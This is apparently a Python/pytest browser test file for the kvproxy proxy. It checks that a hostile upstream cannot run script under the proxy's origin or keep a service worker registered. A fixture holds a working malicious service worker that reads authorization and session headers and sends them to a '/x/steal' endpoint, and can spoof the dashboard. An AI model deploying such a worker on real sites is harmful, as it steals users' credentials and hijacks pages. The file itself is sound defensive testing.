"""A hostile upstream and a browser: its pages run no script with the proxy's origin, and its workers are removed."""

import contextlib
from collections.abc import Iterator
from pathlib import Path

import pytest
import uvicorn
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route

from kvproxy.settings import load_settings
from tests.ports import free_port
from tests.servers import run_front, run_proxy, run_server
from tests.ui.page import Page

WORKER = """
addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", (event) => {
  const { pathname } = new URL(event.request.url);
  const taken = new Response("<title>taken</title>", {headers: {"content-type": "text/html"}});
  if (pathname === "/ui/" && FROM_CACHE) event.respondWith(taken);
  const found = event.request.headers.get("authorization") ?? event.request.headers.get("x-kvproxy-session");
  if (found) fetch(`/x/steal?found=${encodeURIComponent(found)}`);
});
"""
PAGE = """<!doctype html><title>page</title><script>
document.title = "ran";
navigator.serviceWorker.register("/x/worker", {scope: "/"}).then(() => navigator.serviceWorker.ready)
  .then(() => document.title = "registered", (error) => document.title = String(error));
fetch("/admin/cache").then((response) => document.title = "admin " + response.status);
</script>"""


class HostileUpstream:
    def __init__(self, *, answers_from_cache: bool = False) -> None:
        self.stolen: list[str] = []
        self._worker = WORKER.replace("FROM_CACHE", str(answers_from_cache).lower())
        self.app = Starlette(routes=[Route("/{path:path}", self.answer)])

    async def answer(self, request: Request) -> Response:
        path = request.url.path
        if path == "/x/worker":
            return Response(self._worker, media_type="text/javascript", headers={"service-worker-allowed": "/"})
        if path == "/x/steal":
            self.stolen.append(request.url.query)
        return HTMLResponse(PAGE)


@contextlib.contextmanager
def served(app: Starlette, port: int = 0) -> Iterator[str]:
    config = uvicorn.Config(app, log_level="warning", timeout_graceful_shutdown=1)
    with run_server(uvicorn.Server(config), port) as url:
        yield url


def sign_in(page: Page) -> None:
    page.find("dialog input").send_keys("SECRETADM\ue007")
    page.until(lambda: "0 responses" in page.text(".filters"))


def workers(page: Page) -> int:
    script = "const done = arguments[0]; navigator.serviceWorker.getRegistrations().then((all) => done(all.length))"
    return int(page.driver.execute_async_script(script))


def test_a_page_of_an_upstream_runs_no_script_and_registers_no_worker(page: Page, tmp_path: Path) -> None:
    hostile = HostileUpstream()
    with (
        served(hostile.app) as upstream,
        run_front(tmp_path, upstream, admin_token="SECRETADM") as (url, _),
    ):
        for path in ("/x/page", "/v1/page", "/index.html"):
            page.driver.get(url + path)
            assert page.driver.title == "page"
        page.open(url, "stored")
        sign_in(page)
        # A script of the proxy's origin, which no upstream can run, can register no worker either.
        script = "navigator.serviceWorker.register('/x/worker').then(() => 'registered', String).then(arguments[0])"
        assert page.driver.execute_async_script(script) != "registered"
        assert workers(page) == 0
        stored = page.run("return JSON.stringify([{...sessionStorage}, {...localStorage}]) + document.cookie")
        assert "SECRETADM" not in stored
        assert "kvproxy-session" in stored
        page.close()
    assert hostile.stolen == []


@pytest.mark.parametrize("answers_from_cache", [False, True])
def test_a_worker_that_is_registered_already_is_removed(page: Page, tmp_path: Path, answers_from_cache: bool) -> None:
    """Also one that answers for the dashboard, so that the browser never requests the dashboard from the proxy."""
    port, hostile = free_port(), HostileUpstream(answers_from_cache=answers_from_cache)
    with served(hostile.app, port) as url:
        # As through a proxy that passes on everything.
        page.driver.get(f"{url}/x/page")
        page.until(lambda: workers(page) == 1)
    with served(hostile.app) as upstream:
        settings = load_settings(data=tmp_path, upstream=upstream, cache={"semantic": False}, admin_token="SECRETADM")
        with run_proxy(settings, port):
            page.driver.get(f"{url}/ui/#stored")
            # A browser updates a worker soon after a page that it controls.
            page.until(lambda: workers(page) == 0)
            page.driver.get("about:blank")
            page.driver.get(f"{url}/ui/#stored")
            sign_in(page)
            assert workers(page) == 0
            assert page.run("return navigator.serviceWorker.controller") is None
            page.close()
    assert hostile.stolen == []
